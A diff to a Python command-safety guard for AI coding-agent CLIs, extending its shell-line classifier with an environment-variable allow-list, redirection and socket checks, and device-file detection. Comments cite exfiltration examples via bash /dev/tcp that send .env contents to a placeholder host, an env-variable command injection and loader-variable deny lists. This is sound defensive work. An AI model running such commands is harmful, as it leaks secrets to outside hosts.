@@ -13,8 +13,9 @@ the bytecode cached)::
 The plain form works too, only slower::
 
     python3 sts.py codex|claude|hermes|opencode|pi|omp|gemini|copilot|qwen   < host-event.json
-    python3 sts.py install <host> | uninstall <host> | doctor
-    python3 sts.py status | runtime [all] | explain EVT | label EVT LABEL
+    python3 sts.py install <host> | uninstall <host> | doctor [--json]
+    python3 sts.py status | runtime [all] | log | explain EVT | label EVT LABEL
+    python3 sts.py check [--host H] [--contract "review"] -- 'command'
     python3 sts.py demo | cases [DIR] | --help | --version
 
 The sections read top to bottom as layers: each uses only the sections above
@@ -35,7 +36,7 @@ through the CLI's hook runner).  Search for a title:
                          Gemini CLI, Copilot CLI, Qwen Code
     Install              install, uninstall, doctor
     Inspection           status, runtime, explain, label
-    Cases, CLI           case replay, the hook runner and main()
+    Cases, CLI           case replay, `check`, the hook runner and main()
 
 The life of one event, a Claude Code `PreToolUse` for `Edit src/a.py`:
 
@@ -699,6 +700,9 @@ class Action(_EventType):
     # Every write of the shell line is among its targets and patterns
     # (ShellAnalysis.writes_known), so files= can judge it by them.
     shell_writes_known: bool = False
+    # Shell write targets the line reaches only as themselves, never below
+    # (ShellAnalysis.flat_targets): `rm .git` holds no guard file it removes.
+    shell_flat_targets: List[str] = _NEW_LIST
     # Paths a command not proven read names (ShellAnalysis.named_paths): self-protection
     # counts them as written.
     shell_named_paths: List[str] = _NEW_LIST
@@ -759,7 +763,7 @@ class Action(_EventType):
             raise _bad(where + "id", action_id)
         paths = []
         for key in ("affectedPaths", "shellWriteTargets", "shellWritePatterns", "lostTargets",
-                    "shellNamedPaths"):
+                    "shellNamedPaths", "shellFlatTargets"):
             value = obj.get(key, [])
             if not isinstance(value, list) or not all(isinstance(p, str) for p in value):
                 raise _bad(where + key, value)
@@ -802,6 +806,7 @@ class Action(_EventType):
             name=name, mutability=mutability, id=action_id,
             affected_paths=paths[0], shell_write_targets=paths[1],
             shell_write_patterns=paths[2], shell_named_paths=paths[4],
+            shell_flat_targets=paths[5],
             unknown_write_target=flags["unknownWriteTarget"],
             shell_writes_known=flags["shellWritesKnown"], starts_agent=starts_agent, cwd=cwd,
             hash_intent=flags["hashIntent"], dependency_intent=flags["dependencyIntent"],
@@ -1944,6 +1949,10 @@ class ShellAnalysis(Record):
     (redirections, sed -i, cp, mv, rm, tee, touch...; _V.whole), where no
     pattern has a wildcard in a folder's name.  Under files= such a line is
     judged by its targets alone.
+    flat_targets: the write targets the line reaches only as themselves,
+    by writers that never act below a named operand (rm and unlink without
+    -r: on a folder they fail; shred), and by nothing else on the line:
+    such a target is no folder holding the guard's files.
     python_folder: the line is unknown ("interpreter_code") only because it
     runs proven Python without -I in the folder it starts in, where a
     module of the standard library's name would be imported first; it is a
@@ -1963,12 +1972,13 @@ class ShellAnalysis(Record):
     __slots__ = FIELDS = ('mutability', 'reason', 'hash_intent', 'dependency_intent',
                           'write_targets', 'unknown_target', 'starts_agent', 'resumes_session',
                           'write_patterns', 'writes_known', 'python_folder', 'runs_packages',
-                          'irreversible', 'lost_targets', 'named_paths')
+                          'irreversible', 'lost_targets', 'named_paths', 'flat_targets')
     DEFAULTS = {'reason': None, 'hash_intent': False, 'dependency_intent': False,
                 'write_targets': list, 'unknown_target': False, 'starts_agent': None,
                 'resumes_session': False, 'write_patterns': list, 'writes_known': False,
                 'python_folder': False, 'runs_packages': list, 'irreversible': None,
-                'lost_targets': list, 'named_paths': list}
+                'lost_targets': list, 'named_paths': list,
+                'flat_targets': list}
 
     mutability: str
     reason: Optional[str]
@@ -1982,6 +1992,7 @@ class ShellAnalysis(Record):
     irreversible: Optional[str]   # what cannot be undone, as the Culprit says it
     lost_targets: List[str]       # paths and patterns it deletes, moves or overwrites
     named_paths: List[str]
+    flat_targets: List[str]
 
 
 _MAX_COMMAND = 64 * 1024  # longer commands are not analysed (analysis_limit)
@@ -3450,21 +3461,35 @@ class _Bash:
 
 # ---- classification ---------------------------------------------------------
 
-_DEV_SINKS = frozenset(("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/fd/1",
-                        "/dev/fd/2"))
+_DEV_SINKS = frozenset(("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/fd/1", "/dev/fd/2"))
 _BIN_DIRS = frozenset(("/bin", "/usr/bin", "/usr/local/bin", "/sbin", "/usr/sbin",
                        "/opt/homebrew/bin", "/usr/local/sbin"))
-# Prefix assignments that only change presentation; any other one is unknown.
-_SAFE_ENV = frozenset(("LANG", "LANGUAGE", "TZ", "NO_COLOR", "TERM", "COLUMNS", "LINES",
-                       "CLICOLOR", "CLICOLOR_FORCE", "FORCE_COLOR", "GREP_COLOR", "GREP_COLORS",
-                       "RIPGREP_CONFIG_PATH", "TIME_STYLE", "POSIXLY_CORRECT"))
+# The variables a command may be given and stay proven: an allow-list, since
+# a list of the dangerous ones always misses the next (`GREP='sh -c …' zgrep`
+# runs the value).  Each changes only how a program presents what it shows,
+# or how it reads its options (which the analyzer already assumes); any
+# other name leaves the command unproven.  The value a name may take:
+# "any"; "word", static and without a `/` (a locale or terminal name with
+# one makes gettext, glibc or ncurses load data from any folder, the
+# project's included); "empty", static and empty.  README: "Variables
+# before a command".
+_SAFE_ENV: Dict[str, str] = {
+    "LANG": "word", "LANGUAGE": "word", "LC_*": "word",   # the language and character rules
+    "TZ": "any",                  # the time zone dates are shown in (zone data, no code)
+    "TERM": "word",               # the terminal's name: which escapes colour output
+    "COLUMNS": "any", "LINES": "any",   # the width and height output is laid out for
+    "NO_COLOR": "any", "CLICOLOR": "any", "CLICOLOR_FORCE": "any", "FORCE_COLOR": "any",
+    "GREP_COLOR": "any", "GREP_COLORS": "any",   # whether and how output is coloured
+    "TIME_STYLE": "any",          # how ls and du print times
+    "POSIXLY_CORRECT": "any",     # options end at the first operand, as the analyzer reads them
+    "RIPGREP_CONFIG_PATH": "empty",   # empty: rg reads no configuration file
+}
 _SAFE_PAGERS = frozenset(("cat", ""))
 
-# Variables that make a program run or load other code, read other
-# configuration, or write somewhere: a prefix assignment of one of these
-# (exact, or a prefix ending in *) leaves the command unproven.  The phrase
-# is what a denial says (%s: the program).  Families whose members nobody
-# has listed one by one are refused whole: when unsure, refuse.
+# Why a denial says a variable off _SAFE_ENV matters, for the names known to
+# make a program run or load other code, read other configuration or write
+# somewhere (exact, or a prefix ending in *; %s: the program).  Any other
+# name gets the plain sentence of _env_why.
 _ENV_WHY: Tuple[Tuple[str, str], ...] = (
     ("LD_*", "makes %s load other code"), ("DYLD_*", "makes %s load other code"),
     ("GCONV_PATH", "makes %s load other code"), ("GLIBC_TUNABLES", "changes how %s loads"),
@@ -3521,55 +3546,22 @@ _ENV_WHY: Tuple[Tuple[str, str], ...] = (
     ("NULLCMD", "names a program zsh runs"), ("READNULLCMD", "names a program zsh runs"),
     ("STTY", "makes zsh run stty"), ("SSLKEYLOGFILE", "makes %s write its TLS keys to a file"),
 )
-# Parts of a name that suggest a program reads it to find code, configuration
-# or an output file: unsure, so refused.
-_ENV_RISKY_PARTS = ("PATH", "HOME", "DIR", "CONF", "OPT", "FLAGS", "CMD", "COMMAND", "EXEC",
-                    "PROG", "HOOK", "PLUGIN", "PRELOAD", "LIB", "EDITOR", "PAGER", "SHELL",
-                    "ASKPASS", "PROXY", "TRACE", "LOG", "HIST", "FILE", "RC", "ENV", "RSH",
-                    "AUDIT", "INCLUDE", "MODULE", "LOAD", "SCRIPT", "STARTUP", "INIT",
-                    "PROFILE", "PREFIX", "ROOT", "INDEX", "TEMPLATE", "WRAP", "TMP", "TEMP",
-                    "SOCK", "OUT", "DUMP", "CACHE", "BROWSER", "HOST", "URL", "SERVER",
-                    "ENDPOINT", "REGISTRY", "MIRROR", "ENGINE", "ADDR", "BUS")
-
-
-# _ENV_WHY as exact names and name prefixes, and _ENV_RISKY_PARTS by their
-# first two letters; made on first use.  A line may set thousands of
-# variables (`a=1 a=1 ... ls`): a walk of both tables for each name cost 25
-# microseconds, now a look-up per letter of the name.
-_ENV_RISKY_NAMES: List[Any] = []
-
-
-def _env_risky(upper: str) -> bool:
-    if not _ENV_RISKY_NAMES:
-        parts: Dict[str, Tuple[str, ...]] = {}
-        for part in _ENV_RISKY_PARTS:   # (each has two letters or more)
-            parts[part[:2]] = parts.get(part[:2], ()) + (part,)
-        _ENV_RISKY_NAMES[:] = (frozenset(p for p, _ in _ENV_WHY if not p.endswith("*")),
-                               tuple(p[:-1] for p, _ in _ENV_WHY if p.endswith("*")) + ("_",),
-                               parts)
-    exact, prefixes, parts = _ENV_RISKY_NAMES
-    if upper in exact or upper.startswith(prefixes):
-        return True
-    for i in range(len(upper) - 1):
-        for part in parts.get(upper[i:i + 2], ()):
-            if upper.startswith(part, i):
-                return True
-    return False
-
-
 def _env_ok(name: str, value: _W) -> bool:
-    """Whether `NAME=value cmd` judges like `cmd`: the variable only changes
-    presentation, or no program is known to read it (FOO=1, CI=true).  Names
-    that run code, point at configuration or look like they might are refused."""
-    if name.startswith("LC_") or name in _SAFE_ENV:
-        return name != "RIPGREP_CONFIG_PATH" or value.text == ""
+    """Whether `NAME=value cmd` judges like `cmd`: the name is on _SAFE_ENV
+    with a value it allows, or pins what the program picks (GOTOOLCHAIN=local),
+    or turns the pager off (PAGER=cat)."""
+    kind = _SAFE_ENV.get("LC_*" if name.startswith("LC_") else name)
+    if kind == "any":
+        return True
+    if kind == "word":
+        return value.static and "/" not in value.text
+    if kind == "empty":
+        return value.static and value.text == ""
     if name in ("PAGER", "GIT_PAGER", "MANPAGER"):
         return value.static and value.text in _SAFE_PAGERS
     if name in _PICKS_PINNED_BY:
         return value.static and value.text == _PICKS_PINNED_BY[name][1]
-    if name != name.upper() and not _plain_var(name):
-        return False
-    return not _env_risky(name.upper())
+    return False
 
 
 def _program_name(word: _W) -> Optional[str]:
@@ -3593,7 +3585,7 @@ class _Ctx:
     (where, verdict): a _Cmd, a _Spot or None, and its _V."""
 
     __slots__ = ("depth", "shell", "seen", "vars", "vars_unknown", "globs_unknown", "work",
-                 "std_moved", "written", "stdin_now")
+                 "std_moved", "written", "stdin_now", "top")
 
     def __init__(self, depth: int, shell: str, seen: Optional[list] = None,
                  work: Optional[List[int]] = None) -> None:
@@ -3615,6 +3607,9 @@ class _Ctx:
         # The text the command being judged reads on its input, when the
         # line spells it out (a here-document or here-string); else None.
         self.stdin_now: Optional[str] = None
+        # The command is the line's own, in the folder the line is in: at the
+        # top, or behind wrappers that run it there (`time`, `nice`, `sudo`).
+        self.top = depth == 0
 
     def deeper(self) -> "_Ctx":
         if self.depth + 1 > _MAX_DEPTH:
@@ -3633,12 +3628,14 @@ _STD_SINKS = frozenset(("/dev/stdout", "/dev/stderr", "/dev/fd/1", "/dev/fd/2"))
 
 
 def _classify_cmd(cmd: _Cmd, ctx: _Ctx) -> _V:
-    v = _V()
+    v = _redirs_verdict(cmd)
     if not ctx.std_moved and ("<" in cmd.src or ">&" in cmd.src) \
             and _an_rx("std_moves", _STD_MOVES).search(cmd.src):
         ctx.std_moved = True    # the whole line, `exec 1<f` and `{ ...; } 1<f` included
-    for op, target in cmd.redirs:
-        v.join(_redir_verdict(op, target))
+    for w in cmd.words[1:]:
+        if _consumed(w):
+            v.join(_unknown("state_change", "leaves", w.text, _CONSUMED_WHY))
+            break
     env_capped: Optional[str] = None
     for name, value in cmd.assigns:
         if env_capped is None and not _env_ok(name, value):
@@ -3661,6 +3658,8 @@ def _classify_cmd(cmd: _Cmd, ctx: _Ctx) -> _V:
     if cmd.zsh_drop:
         # `cmd a >! b`: bash runs `cmd a b`, zsh `cmd a`; both readings count.
         inner.join(_classify_argv([w for w in cmd.words if w not in cmd.zsh_drop], ctx))
+    # The checks below read the words of the command the wrappers run.
+    cmd = _unwrapped_cmd(cmd)
     if cmd.stdin is not None or (inner.why and inner.why[0] == "pystdin"):
         inner = _stdin_program(cmd, inner, ctx)
         name = _cmd_name(cmd)
@@ -3689,7 +3688,10 @@ def _classify_cmd(cmd: _Cmd, ctx: _Ctx) -> _V:
         if named is None:
             inner.opaque = True
         else:
-            inner.named.extend(named)
+            # A name the command reaches only as itself (`rm .git`) is its
+            # target already, and no folder (see ShellAnalysis.flat_targets).
+            flat = {t for t in inner.targets if isinstance(t, _Flat)}
+            inner.named.extend(p for p in named if p not in flat)
     v.join(inner)
     v.cd = inner.cd
     if ctx.std_moved and any(w is not None and w.static and w.text in _STD_SINKS
@@ -3725,6 +3727,16 @@ def _classify_cmd(cmd: _Cmd, ctx: _Ctx) -> _V:
         if any(w.text.startswith(("-C", "--git-dir", "--work-tree")) for w in cmd.words[1:4]):
             v.opaque = True
     elif v.mut == "write" and _applies_a_patch(cmd):
+        whole = _patch_whole(cmd)
+        if whole is not None:
+            # Every file it may write is named in the diff's headers: a whole write.
+            patch = analyze_patch(cmd.stdin)
+            v.targets = whole
+            v.whole = True
+            v.opaque = False
+            v.hash = v.hash or patch.hash_intent
+            v.dep = v.dep or patch.dependency_intent
+            return v
         if cmd.stdin and _stdin_body(cmd) is not None:
             # A diff given on stdin: the files it names are its targets, and
             # what it adds is read like any patch.
@@ -3980,7 +3992,7 @@ def _stdin_program(cmd: _Cmd, verdict: _V, ctx: _Ctx) -> _V:
             # Expanded before Python reads it: never proven, still read for intent.
             return _code_targets(_code_intents(verdict, body, "x.py"), body)
         proven = _python_verdict(name or "python3", code, verdict.why[2], "stdin", verdict,
-                                 ctx.work, ctx.depth == 0)
+                                 ctx.work, ctx.top)
         return proven if proven.mut == "read" else _code_targets(
             _code_intents(proven, code, "x.py"), code, python=code)
     if name in _STDIN_SHELLS and _stdin_body(cmd) is not None \
@@ -4163,18 +4175,117 @@ def _manifest_by_name(cmd: _Cmd, program_writes: bool) -> bool:
     return False
 
 
-def _redir_verdict(op: str, target: Optional[_W]) -> _V:
+# bash opens these as sockets for any redirection, `<` included, and a
+# descriptor open both ways carries what a command writes to the host
+# (`cat .env 1</dev/tcp/h/443`).  zsh and dash open no such name.
+_SOCKET_PATHS = ("/dev/tcp/", "/dev/udp/")
+# Descriptors other programs may have opened (the host's, or an earlier
+# redirection's) reached through a path, as `<&3` reaches them by number.
+_FD_PATHS = ("/dev/fd/",)
+
+
+def _may_start(text: str, prefixes: Tuple[str, ...]) -> bool:
+    """Whether a word (NUL: an expansion) may begin with one of the prefixes."""
+    for prefix in prefixes:
+        for a, b in zip(text, prefix):
+            if a == "\0":
+                return True
+            if a != b:
+                break
+        else:
+            if len(text) >= len(prefix):
+                return True
+    return False
+
+
+# Files whose reading is no read.  Reading /proc/kmsg or a tracing
+# trace_pipe takes the messages from every other reader (as `dmesg -c`
+# does); opening /dev/watchdog starts the watchdog, which reboots the machine
+# when nobody writes to it; a terminal gives away keystrokes to a reader and
+# takes output past what the host captures (an escape there may set the
+# clipboard), and opening a serial line resets the board on it.  By the
+# last part of the name, for relative names too (`cd /proc; cat kmsg`), and
+# terminals by their path.
+_CONSUMED_NAMES = ("kmsg", "trace_pipe", "trace_pipe_raw", "watchdog")
+_TERMINALS = ("/dev/tty", "/dev/pts/", "/dev/console", "/dev/vc/", "/dev/serial/")
+# What a pattern is tried against (a pattern in an absolute folder).
+_CONSUMED_SAMPLES = ("/proc/kmsg", "/sys/kernel/tracing/trace_pipe",
+                     "/sys/kernel/debug/tracing/trace_pipe", "/dev/watchdog", "/dev/watchdog0",
+                     "/dev/tty", "/dev/tty1", "/dev/ttyS0", "/dev/ttyUSB0", "/dev/ttyACM0",
+                     "/dev/pts/0", "/dev/console")
+
+
+_CONSUMED_WHY = ("takes what other readers need, acts when opened, or reaches the terminal "
+                 "past the output the host captures")
+
+
+def _consumed_name(base: str) -> bool:
+    return base in _CONSUMED_NAMES or base.startswith("watchdog") and base[8:].isdigit()
+
+
+def _consumed(w: _W) -> bool:
+    """Whether a word may name one of those files (also after `if=` or
+    `--file=`).  A name made when the line runs (`$(…)`, a variable of the
+    environment) is only checked for what is written of it."""
+    text = w.text
+    if not w.glob and not ("kmsg" in text or "trace_pipe" in text or "watchdog" in text
+                           or "dev" in text):
+        return False   # (most words: no call made)
+    if not w.static and not w.glob:
+        return any(part in text for part in _CONSUMED_NAMES + ("/dev/tty", "/dev/pts",
+                                                               "/dev/console"))
+    for name in {text, text.rpartition("=")[2]}:
+        if w.glob:
+            if name.startswith("/"):
+                import fnmatch
+                if any(fnmatch.fnmatchcase(sample, name) for sample in _CONSUMED_SAMPLES):
+                    return True
+            continue
+        if "/" not in name:
+            # (`watchdog` alone is a common word: only its paths count.)
+            if name in _CONSUMED_NAMES and name != "watchdog":
+                return True
+            continue
+        base = name.rpartition("/")[2]
+        if _consumed_name(base):
+            return True
+        if "dev" in name or base in ("", ".", ".."):
+            # `/dev//tty`, `/proc/kmsg/.`, `../../dev/tty`: normalised
+            path = "/" + os.path.normpath(name)
+            if _consumed_name(path.rpartition("/")[2]) or any(t in path for t in _TERMINALS):
+                return True
+    return False
+
+
+def _redir_verdict(op: str, target: Optional[_W], known: Optional[set] = None) -> _V:
+    """One redirection.  `known`: the descriptors proven to be the host's
+    standard three or copies of them (0 reads, 1 and 2 the captured output);
+    a duplication of any other may reach a socket or a file."""
     kind = op.lstrip("0123456789")
-    if kind == "<" and target is not None and not target.static \
-            and ("/dev/tcp/" in target.text or "/dev/udp/" in target.text):
-        # bash connects to the host it names: one built from an expansion
-        # carries data out (`< /dev/tcp/$(cat .env).example.com/80`).
+    known = {"0", "1", "2"} if known is None else known
+    if target is not None and kind not in ("<<<", "<&", ">&") and _consumed(target) \
+            and not (kind == ">&" and target.text.isdigit()):
+        return _unknown("state_change", "leaves", target.text, _CONSUMED_WHY)
+    if target is not None and kind != "<<<" and target.text.startswith(_SOCKET_PATHS) \
+            or kind == "<" and target is not None and _may_start(target.text, _SOCKET_PATHS):
+        # (Output to an expansion is a write to a target not known already.)
         return _unknown("network_data_unproven")
-    if target is None or kind in ("<", "<<<"):
+    if target is None or kind == "<<<":
+        return _an_read()
+    if kind == "<":
+        text = target.text
+        if target.static and (text.startswith(_FD_PATHS) or text.startswith("/proc/")
+                              and "/fd/" in text) and text.rpartition("/")[2] != "0" \
+                or not target.static and _may_start(text, _FD_PATHS + ("/proc/",)):
+            return _unknown("shell_syntax_unproven")
         return _an_read()
     if kind in ("<&", ">&"):
-        if target.static and (target.text == "-" or target.text.isdigit()):
+        if target.static and target.text == "-":
             return _an_read()
+        if target.static and target.text.isdigit():
+            if target.text in known and (kind == "<&" or target.text != "0"):
+                return _an_read()
+            return _unknown("shell_syntax_unproven")
         if kind == "<&":
             raise _Give("shell_syntax_unproven")
     if target.static and target.text in _DEV_SINKS:
@@ -4183,6 +4294,31 @@ def _redir_verdict(op: str, target: Optional[_W]) -> _V:
     v.whole = target.static   # the shell writes through a link: a plain word only
     if not kind.endswith(">>"):
         _lose(v)   # `>` empties the file first; `>>` only adds to it
+    return v
+
+
+def _redirs_verdict(cmd: "_Cmd") -> _V:
+    """A command's redirections in order, following which descriptors stay
+    the standard three: `3>&1` makes 3 one, `3>f` or `1<>f` takes one away."""
+    v = _V()
+    known = {"0", "1", "2"}
+    for op, target in cmd.redirs:
+        v.join(_redir_verdict(op, target, known))
+        kind = op.lstrip("0123456789")
+        if kind in ("<<", "<<-", "<<<"):
+            continue
+        fds = (op[:len(op) - len(kind)] or ("0" if kind.startswith("<") else "1"),)
+        if kind in ("&>", "&>>") or kind == ">&" and not (target and target.text.isdigit()):
+            fds = ("1", "2")
+        static = target is not None and target.static
+        # Still one of the three: a copy of one, or output thrown away.
+        stays = static and (kind in ("<&", ">&") and target.text in known
+                            or ">" in kind and "<" not in kind and target.text in _DEV_SINKS)
+        for fd in fds:
+            if stays:
+                known.add(fd)
+            else:
+                known.discard(fd)
     return v
 
 
@@ -4213,7 +4349,8 @@ _VERSION_WORDS: Dict[str, Tuple[str, ...]] = {
 # first operand (`rm x --help` removes x), and an option may take the next
 # word as its value (`cp -t --help x`).  Left out: tools whose help loads the
 # project's own code or config (pytest loads conftest.py, mvn and gradle read
-# JVM options from the project, cargo, rustc and rustup run the toolchain a
+# JVM options from the project, pdm loads its plugins, cargo, rustc and
+# rustup run the toolchain a
 # rust-toolchain.toml may point into the project; see _PROJECT_PICKS) and
 # those whose help runs a pager (aws).  `unlink` is left out: the BSD one
 # (macOS) parses no option and removes the file its one argument names,
@@ -4312,7 +4449,20 @@ _PROJECT_PICKS: Dict[str, str] = {
     # (from .bazeliskrc's BAZELISK_BASE_URL, if set).
     "sbt": "starts Java with the project's .jvmopts and fetches the sbt it names",
     "bazel": "fetches and runs the bazel that the project's .bazelversion names",
+    # gradle.properties' org.gradle.java.home names the Java gradle starts,
+    # and org.gradle.jvmargs its options (-javaagent: runs code), even for -v.
+    "gradle": "starts the Java, with the options, that the project's gradle.properties names",
+    # PDM loads the plugins installed in the project's .pdm-plugins at start.
+    "pdm": "loads the plugins installed in the project's .pdm-plugins first",
+    # npm loads the .npmrc of the project (the folder of the nearest
+    # package.json) for every verb: its registry gets the token it names,
+    # `${ANY_VARIABLE}` expanded, and npm writes a log where `logs-dir` says
+    # (both seen, `npm ls` included).  Only a lone -v or --version skips it.
+    "npm": "obeys the project's .npmrc, which may send a variable to another registry and "
+           "choose where npm writes its log",
 }
+# The forms of such a program that print before reading any project file.
+_PROJECT_SPARES: Dict[str, Tuple[str, ...]] = {"npm": ("-v", "--version")}
 
 
 # The variable that keeps such a program on the build it is: name -> (program,
@@ -4696,7 +4846,8 @@ def _classify_argv(words: List[_W], ctx: _Ctx) -> _V:
             and _verb_unread(name or "", words[1:]):
         v.agent = "?"
     if v.mut != "write" and words and (v.mut == "read" or v.reason == "repository_code"):
-        if name in _PROJECT_PICKS:
+        if name in _PROJECT_PICKS and not (
+                len(words) == 2 and words[1].text in _PROJECT_SPARES.get(name, ())):
             v.cap("repository_code")
             v.why = v.why or ("project", name)     # the culprit says which file picks it
     if v.mut != "read" and v.agent is None:
@@ -4889,15 +5040,17 @@ class _Opts:
     """
 
     __slots__ = ("text", "write", "runs", "state", "permute", "abbrev", "open", "needs",
-                 "verbs", "max_operands", "write_operand", "check", "_short", "_long",
+                 "verbs", "max_operands", "write_operand", "check", "parser", "_short", "_long",
                  "_effects")
 
     def __init__(self, text: str = "", write: str = "", runs: str = "", state: str = "",
                  permute: bool = True, abbrev: bool = True, open: bool = False,
                  needs: str = "", verbs: Optional[frozenset] = None,
                  max_operands: Optional[int] = None, write_operand: Optional[int] = None,
-                 check: Optional[Callable[[List[_W]], Optional[_V]]] = None) -> None:
+                 check: Optional[Callable[[List[_W]], Optional[_V]]] = None,
+                 parser: str = "getopt") -> None:
         self.text = text
+        self.parser = parser
         self.write, self.runs, self.state = write, runs, state
         self.permute, self.abbrev, self.open = permute, abbrev, open
         self.needs, self.verbs, self.check = needs, verbs, check
@@ -4941,7 +5094,13 @@ class _Opts:
 
     def __call__(self, name: str, args: List[_W], ctx: _Ctx) -> _V:
         fail, operands, seen = _read_options(args, self, split_ok=True)
-        return _unsplit(self._judge(args, fail, operands, seen), _split_value(seen))
+        v = _unsplit(self._judge(args, fail, operands, seen), _split_value(seen))
+        if self.parser != "getopt":
+            # Other builds of the program (busybox's xxd, tree and fuser) use
+            # getopt: both readings count.
+            fail, operands, seen = _read_options(args, self, split_ok=True, parser="getopt")
+            v.join(_unsplit(self._judge(args, fail, operands, seen), _split_value(seen)))
+        return v
 
     def _judge(self, args: List[_W], fail: Optional[_V], operands: List[_W],
                seen: List[Tuple[str, Optional[_W], str]]) -> _V:
@@ -4987,8 +5146,36 @@ def _resolve_long(long: Dict[str, Tuple[int, str]], key: str, abbrev: bool) -> O
     return hits[0] if len(hits) == 1 else None
 
 
+def _one_option_word(t: str, args: List[_W], i: int, short: Dict[str, Tuple[int, str]],
+                     seen: List[Tuple[str, Optional[_W], str]]) -> Tuple[Optional[_V], int]:
+    """One word of a parser="word" program (xxd): the option is the letter
+    after one or two dashes, the rest of a flag's word is ignored (`-ps` is
+    -p, `-rps` is -r, `--revert` is -r), and a value is the rest of the word
+    or, when there is none, the next word.  A rest of letters may be the
+    option's long name, after which the value is the next word: refused.
+    Returns (failure or None, how many next words it took)."""
+    body = t[2:] if t.startswith("--") else t[1:]
+    entry = short.get(body[:1])
+    if entry is None:
+        return _unknown("shell_command_unproven", "option", t), 0
+    arity, opt = entry
+    rest = body[1:]
+    if not arity:
+        seen.append((opt, None, t))
+    elif rest and not rest[:1].isalpha():
+        seen.append((opt, _lit(rest), t))
+    elif rest:
+        return _unknown("shell_command_unproven", "option", t), 0
+    elif i < len(args):
+        seen.append((opt, args[i], t))
+        return None, 1
+    else:
+        return _unknown("option_value_missing", "option", t), 0
+    return None, 0
+
+
 def _read_options(args: List[_W], spec: _Opts, permute: Optional[bool] = None,
-                  split_ok: bool = False
+                  split_ok: bool = False, parser: Optional[str] = None
                   ) -> Tuple[Optional[_V], List[_W], List[Tuple[str, Optional[_W], str]]]:
     """The one option scanner.
 
@@ -5002,6 +5189,7 @@ def _read_options(args: List[_W], spec: _Opts, permute: Optional[bool] = None,
     """
     short, long = spec.table()
     permute = spec.permute if permute is None else permute
+    parser = spec.parser if parser is None else parser
     operands: List[_W] = []
     seen: List[Tuple[str, Optional[_W], str]] = []
     effects: Optional[_V] = None
@@ -5028,7 +5216,10 @@ def _read_options(args: List[_W], spec: _Opts, permute: Optional[bool] = None,
             dd = not permute
             continue
         start = len(seen)
-        if t.startswith("--"):
+        if parser == "word":
+            fail, took = _one_option_word(t, args, i, short, seen)
+            i += took
+        elif t.startswith("--"):
             key, eq, val = t[2:].partition("=")
             canon = _resolve_long(long, key, spec.abbrev)
             if canon is None:
@@ -5060,6 +5251,16 @@ def _read_options(args: List[_W], spec: _Opts, permute: Optional[bool] = None,
                     j += 1
                     continue
                 arity, opt = entry
+                if arity and parser == "next":
+                    # Each letter that takes a value takes the next word, and the
+                    # cluster goes on (`tree -Lo 1 f`: -L 1, -o f).
+                    if i >= n:
+                        fail = _unknown("option_value_missing", "option", t)
+                        break
+                    seen.append((opt, args[i], t))
+                    i += 1
+                    j += 1
+                    continue
                 if arity:
                     rest = t[j + 1:]
                     if rest:
@@ -5406,6 +5607,36 @@ _WRITER_SHAPE = {
 # (unlink and shred take a file; rmdir stays a tree: the folder it removes
 # is judged as the guard's when it holds the guard's files).
 _FLAT_UNLESS_RECURSIVE = frozenset(("rm", "unlink", "shred", "chmod", "chown", "chgrp"))
+# ...and of those, the ones that never act below a named folder at all: rm
+# and unlink of a folder fail (rm -d removes an empty one only), shred does
+# not take one.  chmod 000 of a folder does shut what it holds away.
+_ONLY_ITSELF = frozenset(("rm", "unlink", "shred"))
+
+
+class _Walked(str):
+    """A write pattern of the paths find reports without following links
+    (see _find): a `**` there names real folders, never a linked one."""
+    __slots__ = ()
+
+
+class _WalkedW(_W):
+    """A word standing for the paths find reports (see _Walked)."""
+    __slots__ = ()
+
+
+def _walked_word(w: _W) -> _W:
+    out = _WalkedW.__new__(_WalkedW)
+    for key in _W.__slots__:
+        setattr(out, key, getattr(w, key))
+    return out
+
+
+class _Flat(str):
+    """A write target reached only as itself (see ShellAnalysis.flat_targets);
+    any string made from it is a plain one again."""
+    __slots__ = ()
+
+
 _COMPRESSORS = frozenset(("gzip", "gunzip", "bzip2", "bunzip2", "xz", "unxz", "zstd"))
 
 # Writers whose every write the analyzer names (ShellAnalysis.writes_known):
@@ -5456,6 +5687,8 @@ def _whole_operand(w: _W, follows: bool) -> bool:
         return True
     if follows:
         return False
+    if isinstance(w, _WalkedW):
+        return True   # what find reported, in real folders
     if w.dyn:
         return not w.split and not w.glob
     return not any(ch in w.text.rstrip("/").rpartition("/")[0] for ch in "*?[{")
@@ -5642,7 +5875,10 @@ def _writer_targets(name: str, args: List[_W]) -> _V:
         # cannot remove a folder, `chmod 600 f` changes f's bits only.
         tree = name not in _FLAT_UNLESS_RECURSIVE or bool(set(flags) & set("rR"))
         for w in operands:
-            v.add(w, tree=tree)
+            if not tree and name in _ONLY_ITSELF and w.static and not w.text.startswith("~"):
+                v.add(_Flat(w.text))
+            else:
+                v.add(w, tree=tree)
         return v
     if shape == "path" or name == "install" and "d" in flags:
         for w in operands:
@@ -5705,11 +5941,14 @@ def _writer_targets(name: str, args: List[_W]) -> _V:
 
 # ---- wrappers ---------------------------------------------------------------
 
-def _payload(args: List[_W], ctx: _Ctx) -> _V:
+def _payload(args: List[_W], ctx: _Ctx, same_place: bool = False) -> _V:
+    """The command a program runs; same_place: a wrapper that runs it as the
+    line's own command, in the same folder (see _Ctx.top)."""
     inner = ctx.deeper()
     # The same shell expands the wrapped command's words: its variables hold.
     inner.vars, inner.vars_unknown = ctx.vars, ctx.vars_unknown
     inner.globs_unknown = ctx.globs_unknown
+    inner.top = same_place and ctx.top
     return _classify_argv(args, inner)
 
 
@@ -5727,6 +5966,66 @@ def _wrapper_start(args: List[_W], spec: _Opts
             start and args[start - 1].static and args[start - 1].text == "--"):
         return None
     return start, seen
+
+
+# The options of the wrappers that run their operands as a command in the same
+# folder (their handlers below, and _unwrapped_cmd).
+_WRAPPER_OPTS: Dict[str, _Opts] = {
+    "time": _Opts("-pv", permute=False, abbrev=False),
+    "nice": _Opts("-n: --adjustment:", permute=False, abbrev=False),
+    "timeout": _Opts("-v -sk: --signal: --kill-after: --preserve-status --foreground "
+                     "--verbose", permute=False, abbrev=False),
+    "stdbuf": _Opts("-ioe: --input: --output: --error:", permute=False, abbrev=False),
+    "nohup": _Opts(permute=False),
+}
+
+
+def _unwrapped_cmd(cmd: _Cmd) -> _Cmd:
+    """`cmd` as the command its wrappers run (`time`, `nice -n 5`, `nohup`,
+    `timeout 5`, `stdbuf -oL`, `env [-i] [NAME=value]`, `command`, `builtin`,
+    `exec`, `sudo`), for the checks that read a command's own words after
